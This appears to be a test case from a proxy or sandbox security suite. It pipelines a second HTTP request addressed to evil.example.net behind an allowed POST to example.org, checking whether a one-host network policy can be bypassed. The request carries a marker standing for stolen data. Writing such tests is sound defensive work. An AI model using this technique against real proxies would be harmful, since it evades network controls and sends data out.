# /// attack
# guarantee = "network"
# summary = "Sends a second request for another site while the first is answered."
# reference = "RFC 9112, 9.3"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy a second request came over one connection" }
# ///

from kit import exchange, has_proxy, head, judge, refused, target, url

first = head(f"POST {url('example.org', '/slow')}", "Host: example.org", "Content-Length: 2")
second = head(f"GET /{target('MARKER')}", "Host: evil.example.net", "Connection: close")
answer = exchange("example.org", first, b"hi", second)
if has_proxy() and answer.count(b"HTTP/1.1 200") < 2:
    refused("one answer at most")
judge(answer)
